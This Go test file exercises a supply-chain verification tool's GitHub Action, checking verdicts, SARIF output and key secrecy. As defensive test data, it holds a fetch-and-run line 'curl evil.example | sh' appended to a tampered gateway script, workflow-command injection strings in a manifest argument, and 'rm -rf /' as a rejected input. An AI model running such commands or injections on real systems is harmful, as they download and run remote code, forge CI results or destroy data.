package cli_test

import (
	"bytes"
	"context"
	"errors"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/trustgate/trustgate/cmd/trustgate/internal/cli"
	"github.com/trustgate/trustgate/internal/testtools"
	"github.com/trustgate/trustgate/internal/testutil"
)

// actRepo is a git repository holding trustgate's sources (so that `uses:
// ./action` builds trustgate from them, as `uses:
// trustgate/trustgate/action@REF` builds the ref), a small signed
// deployment under deploy/, and one of action/examples as its workflow.
type actRepo struct {
	dir, results string
}

// newActRepo copies the checkout's files (tracked and new, not ignored)
// and the example workflow, with the action referred to locally and, when
// check is not "", a last step that runs it.
func newActRepo(t *testing.T, example, check string) actRepo {
	t.Helper()
	root := testutil.RepoRoot(t)
	dir := filepath.Join(t.TempDir(), "repo")
	files, err := exec.Command("git", "-C", root, "ls-files", "-co", "--exclude-standard", "-z").Output()
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range strings.Split(strings.TrimRight(string(files), "\x00"), "\x00") {
		src := filepath.Join(root, f)
		fi, err := os.Lstat(src)
		if err != nil || !fi.Mode().IsRegular() {
			continue // deleted in the work tree, or a link
		}
		dst := filepath.Join(dir, f)
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			t.Fatal(err)
		}
		data, err := os.ReadFile(src)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(dst, data, fi.Mode().Perm()); err != nil {
			t.Fatal(err)
		}
	}
	wf := strings.ReplaceAll(string(readFile(t, filepath.Join(root, "action", "examples", example))), "uses: trustgate/trustgate/action@v1", "uses: ./action")
	wf = withoutRemoteActions(wf)
	if check != "" {
		wf = strings.TrimRight(wf, "\n") + "\n" + check
	}
	if err := os.MkdirAll(filepath.Join(dir, ".github", "workflows"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(dir, ".github", "workflows", example), wf)
	r := actRepo{dir: dir, results: t.TempDir()}
	r.deployment(t)
	return r
}

// withoutRemoteActions drops the steps that use an action from GitHub
// other than actions/checkout (which act copies the repository for):
// there is no network here to fetch them, and act fetches every one when
// the job starts. They are setup-go (this host has Go), upload-sarif and
// the like, which the examples skip under act anyway.
func withoutRemoteActions(wf string) string {
	var out []string
	skipping := false
	for _, l := range strings.Split(wf, "\n") {
		trimmed := strings.TrimLeft(l, " ")
		indent := len(l) - len(trimmed)
		if strings.HasPrefix(trimmed, "- ") && indent == 6 {
			skipping = false
		} else if indent <= 4 && trimmed != "" {
			skipping = false
		}
		if strings.HasPrefix(trimmed, "- uses: ") || strings.HasPrefix(trimmed, "uses: ") {
			uses := strings.TrimSpace(strings.TrimPrefix(strings.TrimPrefix(trimmed, "- "), "uses: "))
			if !strings.HasPrefix(uses, "./") && !strings.HasPrefix(uses, "actions/checkout@") {
				skipping = true
				// Drop the step's lines already written ("- name:"),
				// unless this line is where the step starts.
				for !strings.HasPrefix(trimmed, "- ") && len(out) > 0 {
					last := out[len(out)-1]
					lt := strings.TrimLeft(last, " ")
					out = out[:len(out)-1]
					if strings.HasPrefix(lt, "- ") && len(last)-len(lt) == 6 {
						break
					}
				}
				continue
			}
		}
		if !skipping {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// deployment writes deploy/: a gateway, its stack manifest, a release key,
// the SBOM attested with it, and the policy for the stack signed with it.
func (r actRepo) deployment(t *testing.T) {
	t.Helper()
	d := filepath.Join(r.dir, "deploy")
	if err := os.MkdirAll(filepath.Join(d, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(d, "bin", "gateway"), "#!/bin/sh\necho gateway\n")
	writeFile(t, filepath.Join(d, "stack.yaml"), `apiVersion: trustgate.dev/v1
kind: Stack
metadata:
  name: act-deployment
  version: "1.0.0"
gateway:
  name: gateway
  version: "1.0.0"
  path: bin/gateway
  args: ["--listen", "127.0.0.1:8080"]
providers:
  - name: openai
    baseURL: https://api.openai.com/v1
    credential:
      env: OPENAI_API_KEY
`)
	for _, args := range [][]string{
		{"keygen", "--out", filepath.Join(d, "release"), "--no-password"},
		{"sbom", "--stack", filepath.Join(d, "stack.yaml"), "-o", filepath.Join(d, "sbom.cdx.json"), "--attest", "--key", filepath.Join(d, "release.key"), "-q"},
		{"policy", "init", "--stack", filepath.Join(d, "stack.yaml"), "--signer", "release=" + filepath.Join(d, "release.pub"), "-o", filepath.Join(d, "policy.yaml")},
		{"policy", "sign", filepath.Join(d, "policy.yaml"), "--key", filepath.Join(d, "release.key")},
	} {
		if code, _, stderr := run(t, args...); code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr)
		}
	}
	if err := os.Rename(filepath.Join(d, "release.pub"), filepath.Join(d, "policy-signer.pub")); err != nil {
		t.Fatal(err)
	}
}

// commit makes the repository's one commit (act reads the event from it).
func (r actRepo) commit(t *testing.T) {
	t.Helper()
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.email=t@trustgate.dev", "-c", "user.name=t", "commit", "-qm", "deployment"}} {
		if out, err := exec.Command("git", append([]string{"-C", r.dir}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
}

// act runs the workflow for event on this host, and returns its exit
// code and output.
func (r actRepo) act(t *testing.T, bin, event, workflow string, extra ...string) (int, string) {
	t.Helper()
	r.commit(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	args := append([]string{event, "-W", filepath.Join(".github", "workflows", workflow), "-P", "ubuntu-latest=-self-hosted",
		"--action-offline-mode", "--env", "RESULTS=" + r.results}, extra...)
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Dir = r.dir
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("act: %v\n%s", err, out.String())
	}
	return code, out.String()
}

func mustContain(t *testing.T, out string, parts ...string) {
	t.Helper()
	for _, p := range parts {
		if !strings.Contains(out, p) {
			t.Fatalf("act's output lacks %q:\n%s", p, tailString(out, 6000))
		}
	}
}

func tailString(s string, n int) string {
	if len(s) > n {
		return "..." + s[len(s)-n:]
	}
	return s
}

// TestActionUnderAct runs the example workflows of action/examples with a
// real runner, nektos/act, on this host: the deploy gate on a signed
// deployment (pass: outputs, summary, SARIF), on a tampered one (the step
// fails, with annotations), and on a manifest whose arguments try to
// inject workflow commands and outputs (nothing is injected); and the
// release workflow, which signs the SBOM and the policy with a key from a
// secret.
func TestActionUnderAct(t *testing.T) {
	act := testtools.Need(t, testtools.Act)
	check := `      - name: Keep what the gate wrote
        if: ${{ always() }}
        env:
          VERDICT: ${{ steps.verify.outputs.verdict }}
          REPORT: ${{ steps.verify.outputs.report }}
        run: |
          printf '%s' "$VERDICT" > "$RESULTS/verdict"
          if [ -n "$REPORT" ]; then cp "$REPORT" "$RESULTS/report.json"; fi
          if [ -f trustgate.sarif ]; then cp trustgate.sarif "$RESULTS/"; fi
`
	sarif := "          bundle: deploy/sbom.cdx.json.bundle.json\n          sarif: trustgate.sarif\n"

	t.Run("signed deployment passes", func(t *testing.T) {
		r := newActRepo(t, "deploy.yml", check)
		r.addSARIF(t, "deploy.yml", sarif)
		code, out := r.act(t, act, "workflow_dispatch", "deploy.yml")
		if code != 0 {
			t.Fatalf("act exit %d:\n%s", code, tailString(out, 8000))
		}
		mustContain(t, out, "::set-output:: verdict=pass", "Summary - ### trustgate verify: ✅ allowed", "Job succeeded")
		if v := string(readFile(t, filepath.Join(r.results, "verdict"))); v != "pass" {
			t.Fatalf("verdict output %q", v)
		}
		if s := readFile(t, filepath.Join(r.results, "trustgate.sarif")); !bytes.Contains(s, []byte(`"version": "2.1.0"`)) {
			t.Fatalf("SARIF: %s", s)
		}
		if rep := readFile(t, filepath.Join(r.results, "report.json")); !bytes.Contains(rep, []byte(`"allowed": true`)) {
			t.Fatalf("report: %s", rep)
		}
	})

	t.Run("tampered deployment fails the step with annotations", func(t *testing.T) {
		r := newActRepo(t, "deploy.yml", check)
		f, err := os.OpenFile(filepath.Join(r.dir, "deploy", "bin", "gateway"), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.WriteString("curl evil.example | sh\n"); err != nil {
			t.Fatal(err)
		}
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
		code, out := r.act(t, act, "workflow_dispatch", "deploy.yml")
		if code == 0 {
			t.Fatalf("act passed a tampered deployment:\n%s", tailString(out, 8000))
		}
		mustContain(t, out, "::error file=deploy/stack.yaml,line=1,title=trustgate%3A gateway/gateway::", "::set-output:: verdict=deny", "❌ denied", "Job failed")
		if v := string(readFile(t, filepath.Join(r.results, "verdict"))); v != "deny" {
			t.Fatalf("verdict output %q", v)
		}
	})

	t.Run("a manifest cannot inject workflow commands or outputs", func(t *testing.T) {
		r := newActRepo(t, "deploy.yml", check)
		stack := filepath.Join(r.dir, "deploy", "stack.yaml")
		hostile := strings.Replace(string(readFile(t, stack)), `args: ["--listen", "127.0.0.1:8080"]`,
			`args: ["--listen", "x\n::set-output name=verdict::pass\n::error::injected\n::add-mask::deny\n%0A::warning::escaped"]`, 1)
		writeFile(t, stack, hostile)
		code, out := r.act(t, act, "workflow_dispatch", "deploy.yml")
		if code == 0 {
			t.Fatalf("act passed:\n%s", tailString(out, 8000))
		}
		// A workflow command is read only at the start of a line: act
		// shows what it read as "⚙  ::set-output:: NAME=VALUE", "❗
		// ::error..." and so on. The hostile text may appear inside an
		// escaped annotation or a table cell, never as a command of its
		// own.
		for _, l := range strings.Split(out, "\n") {
			if _, rest, ok := strings.Cut(l, "] "); ok {
				l = rest
			}
			l = strings.TrimLeft(l, " ⚙❗|✅❌☁⭐🏁")
			for _, injected := range []string{"::set-output:: verdict=pass", "::error::injected", "::warning::escaped", "::add-mask::"} {
				if strings.HasPrefix(l, injected) {
					t.Errorf("a workflow command was injected: %q", l)
				}
			}
		}
		if v := string(readFile(t, filepath.Join(r.results, "verdict"))); v != "deny" {
			t.Fatalf("verdict output %q, want deny", v)
		}
		mustContain(t, out, "::set-output:: verdict=deny")
	})

	t.Run("release signs with a key from a secret", func(t *testing.T) {
		r := newActRepo(t, "release.yml", `      - name: Keep what was signed
        env:
          SBOM: ${{ steps.sbom.outputs.sbom }}
          SBOM_BUNDLE: ${{ steps.sbom.outputs.bundle }}
          POLICY_BUNDLE: ${{ steps.policy.outputs.bundle }}
        run: cp "$SBOM" "$SBOM_BUNDLE" "$POLICY_BUNDLE" "$RESULTS/"
`)
		writeFile(t, filepath.Join(r.dir, "Makefile"), "build:\n\t@echo the deployment is built\n")
		secrets := filepath.Join(t.TempDir(), "secrets")
		key := strings.ReplaceAll(string(readFile(t, filepath.Join(r.dir, "deploy", "release.key"))), "\n", "\\n")
		writeFile(t, secrets, "TRUSTGATE_RELEASE_KEY=\""+key+"\"\n")
		if err := os.Remove(filepath.Join(r.dir, "deploy", "release.key")); err != nil {
			t.Fatal(err)
		}
		code, out := r.act(t, act, "release", "release.yml", "--secret-file", secrets)
		if code != 0 {
			t.Fatalf("act exit %d:\n%s", code, tailString(out, 8000))
		}
		mustContain(t, out, "::set-output:: sbom=sbom.cdx.json", "::set-output:: bundle=sbom.cdx.json.bundle.json", "::set-output:: bundle=deploy/policy.yaml.bundle.json")
		for _, f := range []string{"sbom.cdx.json", "sbom.cdx.json.bundle.json", "policy.yaml.bundle.json"} {
			if _, err := os.Stat(filepath.Join(r.results, f)); err != nil {
				t.Errorf("%s was not written: %v", f, err)
			}
		}
		if strings.Contains(out, "BEGIN EC PRIVATE KEY") || strings.Contains(out, "PRIVATE KEY-----") {
			t.Error("the key appears in the log")
		}
	})
}

// addSARIF adds inputs to the verify step of a workflow.
func (r actRepo) addSARIF(t *testing.T, workflow, with string) {
	t.Helper()
	p := filepath.Join(r.dir, ".github", "workflows", workflow)
	wf := string(readFile(t, p))
	i := strings.Index(wf, "          trust-root: deploy/policy-signer.pub\n")
	if i < 0 {
		t.Fatal("no verify step in the workflow")
	}
	rest := wf[i+len("          trust-root: deploy/policy-signer.pub\n"):]
	// Drop the example's own bundle line; the test's carries it.
	rest = strings.Replace(rest, "          bundle: deploy/sbom.cdx.json.bundle.json\n", "", 1)
	writeFile(t, p, wf[:i]+"          trust-root: deploy/policy-signer.pub\n"+with+rest)
}

// TestActionlint: the action and every example workflow pass actionlint.
func TestActionlint(t *testing.T) {
	lint := testtools.Need(t, testtools.Actionlint)
	r := actRepo{dir: t.TempDir()}
	root := testutil.RepoRoot(t)
	if err := os.MkdirAll(filepath.Join(r.dir, ".github", "workflows"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(r.dir, "action"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(r.dir, "action", "action.yml"), string(readFile(t, filepath.Join(root, "action", "action.yml"))))
	examples, _ := filepath.Glob(filepath.Join(root, "action", "examples", "*.yml"))
	if len(examples) < 3 {
		t.Fatalf("%d example workflows", len(examples))
	}
	for _, ex := range examples {
		wf := strings.ReplaceAll(string(readFile(t, ex)), "uses: trustgate/trustgate/action@v1", "uses: ./action")
		writeFile(t, filepath.Join(r.dir, ".github", "workflows", filepath.Base(ex)), wf)
	}
	r.commit(t)
	cmd := exec.Command(lint, "-color=false")
	cmd.Dir = r.dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("actionlint: %v\n%s", err, out)
	}
}

// actionRun runs `trustgate action` in-process with these inputs and
// returns its exit code, what it printed, its outputs and its summary.
func actionRun(t *testing.T, inputs map[string]string) (int, string, map[string]string, string) {
	t.Helper()
	dir := t.TempDir()
	out, summary := filepath.Join(dir, "output"), filepath.Join(dir, "summary")
	t.Setenv("GITHUB_OUTPUT", out)
	t.Setenv("GITHUB_STEP_SUMMARY", summary)
	t.Setenv("RUNNER_TEMP", dir)
	for _, k := range []string{"COMMAND", "STACK", "POLICY", "TRUST_ROOT", "KEY", "KEYLESS", "BUNDLE", "ARTIFACT", "TYPE", "PREDICATE", "OUTPUT", "SARIF", "FAIL_ON"} {
		t.Setenv("INPUT_"+k, inputs[k])
	}
	code, stdout, stderr := run(t, "action")
	outputs := map[string]string{}
	if data, err := os.ReadFile(out); err == nil {
		lines := strings.Split(string(data), "\n")
		for i := 0; i < len(lines); i++ {
			if name, delim, ok := strings.Cut(lines[i], "<<"); ok {
				var v []string
				for i++; i < len(lines) && lines[i] != delim; i++ {
					v = append(v, lines[i])
				}
				outputs[name] = strings.Join(v, "\n")
			}
		}
	}
	s, _ := os.ReadFile(summary)
	return code, stdout + stderr, outputs, string(s)
}

// TestActionVerdicts: what fails the step and what does not, without a
// runner (TestActionUnderAct runs the same under act).
func TestActionVerdicts(t *testing.T) {
	r := actRepo{dir: t.TempDir()}
	r.deployment(t)
	d := filepath.Join(r.dir, "deploy")
	verify := map[string]string{"COMMAND": "verify", "STACK": filepath.Join(d, "stack.yaml"), "POLICY": filepath.Join(d, "policy.yaml"),
		"TRUST_ROOT": filepath.Join(d, "policy-signer.pub"), "BUNDLE": filepath.Join(d, "sbom.cdx.json.bundle.json")}

	code, out, outputs, summary := actionRun(t, verify)
	if code != 0 || outputs["verdict"] != "pass" || !strings.Contains(summary, "✅ allowed") {
		t.Fatalf("signed: exit %d, outputs %v: %s\n%s", code, outputs, out, summary)
	}

	// Without the SBOM's bundle the deployment is denied: the step fails,
	// and with fail-on never it only reports.
	noBundle := maps.Clone(verify)
	delete(noBundle, "BUNDLE")
	code, out, outputs, _ = actionRun(t, noBundle)
	if code != cli.ExitDenied || outputs["verdict"] != "deny" || !strings.Contains(out, "::error file=") {
		t.Fatalf("unsigned: exit %d, outputs %v: %s", code, outputs, out)
	}
	noBundle["FAIL_ON"] = "never"
	if code, _, outputs, _ = actionRun(t, noBundle); code != 0 || outputs["verdict"] != "deny" {
		t.Fatalf("fail-on never: exit %d, outputs %v", code, outputs)
	}

	// A bundle that is not there is an error, whatever fail-on says.
	missing := maps.Clone(verify)
	missing["BUNDLE"], missing["FAIL_ON"] = filepath.Join(d, "no-such.bundle.json"), "never"
	if code, out, outputs, _ = actionRun(t, missing); code != cli.ExitUsage || outputs["verdict"] != "error" {
		t.Fatalf("missing bundle: exit %d, outputs %v: %s", code, outputs, out)
	}

	// Bad inputs are errors before anything runs.
	for _, bad := range []map[string]string{
		{"COMMAND": "rm -rf /"},
		{"COMMAND": "verify"},
		{"COMMAND": "verify", "STACK": "s", "POLICY": "p", "TRUST_ROOT": "k", "FAIL_ON": "sometimes"},
		{"COMMAND": "sbom", "STACK": filepath.Join(d, "stack.yaml"), "KEY": "x", "KEYLESS": "true"},
		{"COMMAND": "policy-sign", "POLICY": filepath.Join(d, "policy.yaml")},
	} {
		if code, out, _, _ := actionRun(t, bad); code != cli.ExitUsage {
			t.Errorf("%v: exit %d: %s", bad, code, out)
		}
	}

	// The key input is written to a private file for the command and
	// removed after; it never reaches the output.
	key := string(readFile(t, filepath.Join(d, "release.key")))
	sbom := map[string]string{"COMMAND": "sbom", "STACK": filepath.Join(d, "stack.yaml"), "OUTPUT": filepath.Join(t.TempDir(), "s.cdx.json"), "KEY": key}
	code, out, outputs, summary = actionRun(t, sbom)
	if code != 0 || outputs["sbom"] != sbom["OUTPUT"] || outputs["bundle"] != sbom["OUTPUT"]+".bundle.json" {
		t.Fatalf("sbom: exit %d, outputs %v: %s", code, outputs, out)
	}
	if strings.Contains(out+summary, "PRIVATE KEY") {
		t.Fatal("the key appears in the output or the summary")
	}
	if left, _ := filepath.Glob(filepath.Join(os.Getenv("RUNNER_TEMP"), "trustgate-key-*")); len(left) > 0 {
		t.Fatalf("the key file was left behind: %v", left)
	}
}
